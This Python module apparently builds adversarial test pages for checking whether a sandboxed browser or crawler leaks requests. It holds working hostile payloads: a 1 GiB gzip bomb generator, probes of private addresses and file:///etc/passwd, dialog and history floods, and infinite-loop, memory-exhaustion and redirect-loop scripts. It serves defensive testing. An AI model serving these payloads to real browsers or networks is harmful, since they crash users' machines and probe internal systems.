"""The ways in which a page makes a browser send requests or harms it, as HTML, and the answers to these requests.

Each way requests `/hit/NAME`, so that the log of the server shows which ways were effective. `$port` is replaced by the port of the server,
`$canary` by the address and port of the first canary, `$private` by a list of URLs that no page may reach.
"""

import functools
import json
import string
import zlib

GIF = bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b")
BOMB_BYTES = 1 << 30
_CHUNK = 1 << 20


def _script(text):
    return f"<script>{{ {text} }}</script>"


# Requests by markup.
MARKUP = {
    "img": '<img src="/hit/img">',
    "img_srcset": '<img srcset="/hit/img_srcset 1x, /hit/img_srcset?2x 2x"><picture><source srcset="/hit/img_srcset?source"><img></picture>',
    "stylesheet": '<link rel="stylesheet" href="/hit/stylesheet">',
    "css_import": "<style>@import '/hit/css_import';</style>",
    "css_url": "<style>.css-url { background: url(/hit/css_url) }</style><div class='css-url'>text</div>",
    "css_font": "<style>@font-face { font-family: f; src: url(/hit/css_font) } .css-font { font-family: f }</style><p class='css-font'>text</p>",
    "script": '<script src="/hit/script"></script>',
    "module": '<script type="module">import "/hit/module";</script>',
    "iframe": '<iframe src="/hit/iframe"></iframe>',
    "iframe_private": _script("for (const url of $private) document.write(`<iframe src=\"$${url}\"></iframe>`);"),
    "iframe_file": '<iframe src="file:///etc/passwd"></iframe>',
    "object": '<object data="/hit/object" type="text/html"></object>',
    "embed": '<embed src="/hit/embed" type="text/html">',
    "video": '<video src="/hit/video" poster="/hit/video?poster" preload="auto" autoplay muted></video>',
    "audio": '<audio src="/hit/audio" preload="auto" autoplay></audio>',
    "icon": '<link rel="icon" href="/hit/icon">',
    "manifest": '<link rel="manifest" href="/hit/manifest">',
    "prefetch": '<link rel="prefetch" href="/hit/prefetch">',
    "preload": '<link rel="preload" as="script" href="/hit/preload">',
    "preconnect": '<link rel="preconnect" href="http://$canary">',
    "dns_prefetch": '<link rel="dns-prefetch" href="//adversary-canary.test">',
}

# Requests by scripts.
SCRIPTS = {
    "dynamic_import": _script("import('/hit/dynamic_import').catch(() => {});"),
    "fetch": _script("fetch('/hit/fetch').catch(() => {});"),
    "fetch_post": _script("fetch('/hit/fetch_post', { method: 'POST', body: 'x' }).catch(() => {});"),
    "fetch_private": _script("for (const url of $private) fetch(url, { mode: 'no-cors' }).catch(() => {});"),
    "xhr": _script("const r = new XMLHttpRequest(); r.open('GET', '/hit/xhr'); r.send();"),
    "xhr_sync": _script("try { const r = new XMLHttpRequest(); r.open('GET', '/hit/xhr_sync', false); r.send(); } catch (e) {}"),
    "beacon": _script("navigator.sendBeacon('/hit/beacon', 'x');"),
    "event_source": _script("new EventSource('/hit/event_source');"),
    "web_socket": _script("new WebSocket('ws://' + location.host + '/hit/web_socket'); new WebSocket('ws://$canary/');"),
    "web_rtc": _script("const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:$canary' }] }); p.createDataChannel('x');"
                       " p.createOffer().then((offer) => p.setLocalDescription(offer)).catch(() => {});"),
    "web_transport": _script("try { new WebTransport('https://$canary/').ready.catch(() => {}); } catch (e) {}"),
    "worker": _script("new Worker('/hit/worker');"),
    "shared_worker": _script("try { new SharedWorker('/hit/shared_worker'); } catch (e) {}"),
    "service_worker": _script("try { navigator.serviceWorker.register('/hit/service_worker').catch(() => {}); } catch (e) {}"),
    "popup": _script("window.open('/hit/popup', '_blank');"),
    "anchor_ping": '<a id="ping" ping="/hit/anchor_ping" href="#x">x</a>' + _script("document.getElementById('ping').click();"),
    "download": '<a id="load" download href="/hit/download">x</a>' + _script("document.getElementById('load').click();"),
    "redirect_loop": _script("fetch('/hit/redirect_loop').catch(() => {});"),
    "gzip_bomb": _script("fetch('/hit/gzip_bomb').then((r) => r.text()).catch(() => {});"),
}

# What disturbs a browser without a request.
DISTURBANCES = {
    "permissions": _script("try { navigator.clipboard.readText().catch(() => {}); } catch (e) {} try { navigator.geolocation.getCurrentPosition(() => {});"
                           " } catch (e) {} try { Notification.requestPermission(); } catch (e) {}"),
    "push_state_flood": _script("try { for (let i = 0; i < 5000; i += 1) history.pushState({}, '', `#$${i}`); } catch (e) {}"),
    "print": _script("setTimeout(() => window.print(), 300);"),
    "before_unload": _script("window.addEventListener('beforeunload', (event) => { event.preventDefault(); event.returnValue = 'stay'; });"),
    "dialogs": _script("setTimeout(() => { for (let i = 0; i < 1000; i += 1) { alert(i); confirm(i); prompt(i); } }, 400);"),
}

# What leaves the page, some time after it was loaded.
DEPARTURES = {
    "form_post": '<form id="form" method="post" action="/hit/form_post"><input name="x" value="1"></form>'
                 + _script("setTimeout(() => document.getElementById('form').submit(), 800);"),
    "location": _script("setTimeout(() => { location.href = '/hit/location'; }, 1200);"),
    "meta_refresh": '<meta http-equiv="refresh" content="2; url=/hit/meta_refresh">',
}

# What exhausts a browser; on pages of their own only.
EXHAUSTIONS = {
    "hang": _script("setTimeout(() => { while (1); }, 200);"),
    "memory": _script("const held = []; const take = () => { for (let i = 0; i < 8; i += 1) held.push(new Uint8Array(1 << 24).fill(i + 1));"
                      " setTimeout(take, 0); }; take();"),
    "grow": _script("const grow = () => { for (let i = 0; i < 1000; i += 1) document.body.append(Object.assign(document.createElement('a'),"
                    " { href: `/grown/$${Math.random()}`, textContent: 'more' })); setTimeout(grow, 0); }; setTimeout(grow, 100);"),
    "chain": _script("const next = (url) => fetch(url).then((r) => r.json()).then((it) => next(it.next)).catch(() => {}); next('/hit/chain?n=1');"),
}

TOGETHER = {**MARKUP, **SCRIPTS, **DISTURBANCES, **DEPARTURES}
WAYS = {**TOGETHER, **EXHAUSTIONS}

_JAVASCRIPT = "text/javascript"
_ANSWERS = {
    "stylesheet": ("text/css", b""), "css_import": ("text/css", b""), "script": (_JAVASCRIPT, b""),
    "module": (_JAVASCRIPT, b"import '/hit/module_import';"), "module_import": (_JAVASCRIPT, b""), "dynamic_import": (_JAVASCRIPT, b""),
    "preload": (_JAVASCRIPT, b""), "worker": (_JAVASCRIPT, b"fetch('/hit/worker_fetch');"),
    "shared_worker": (_JAVASCRIPT, b"fetch('/hit/shared_worker_fetch');"),
    "service_worker": (_JAVASCRIPT, b"self.addEventListener('install', () => fetch('/hit/service_worker_fetch'));"),
    "event_source": ("text/event-stream", b"data: x\n\n"), "download": ("application/octet-stream", bytes(1000)),
    "img": ("image/gif", GIF), "img_srcset": ("image/gif", GIF), "css_url": ("image/gif", GIF), "icon": ("image/gif", GIF),
    "manifest": ("application/manifest+json", b"{}"),
}


@functools.cache
def bomb():
    """A gzip file of a megabyte with BOMB_BYTES zeros. After a full flush, blocks refer to nothing before them and can be repeated."""
    coder = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = coder.compress(bytes(_CHUNK)) + coder.flush(zlib.Z_FULL_FLUSH)
    check = 0
    for _ in range(BOMB_BYTES // _CHUNK):
        check = zlib.crc32(bytes(_CHUNK), check)
    head, end = bytes.fromhex("1f8b0800000000000003"), coder.flush(zlib.Z_FINISH)
    return head + block * (BOMB_BYTES // _CHUNK) + end + check.to_bytes(4, "little") + (BOMB_BYTES % (1 << 32)).to_bytes(4, "little")


def private_urls(port, canaries):
    """URLs of addresses that a page of a public site has no reason to request."""
    return [f"http://127.0.0.2:{port}/", "http://10.0.0.1/", *(f"http://{canary}/" for canary in canaries)]


def page(names, port, canaries):
    """The page that uses these ways, in their order."""
    values = {"port": port, "canary": (canaries or [f"127.0.0.2:{port}"])[0], "private": json.dumps(private_urls(port, canaries))}
    parts = [string.Template(WAYS[name]).substitute(values) for name in names]
    return "\n".join(["<!DOCTYPE html><html><head><meta charset='utf-8'><title>Adversary</title></head><body><p>An ordinary text.</p>",
                      '<a href="/one/img">next</a>', *parts, "</body></html>\n"])


def answer(name, query):
    """The answer to a request of a way: status, headers and body."""
    if name == "redirect_loop":
        return 302, {"Location": f"/hit/redirect_loop?{len(query) + 1}"}, b""
    if name == "gzip_bomb":
        return 200, {"Content-Type": "text/plain", "Content-Encoding": "gzip"}, bomb()
    if name == "chain":
        number = int(query[2:]) if query[2:].isdecimal() and len(query) < 20 else 0
        return 200, {"Content-Type": "application/json"}, json.dumps({"next": f"/hit/chain?n={number + 1}"}).encode()
    kind, body = _ANSWERS.get(name, ("text/html", b"<!DOCTYPE html><title>hit</title>hit\n"))
    return 200, {"Content-Type": kind}, body
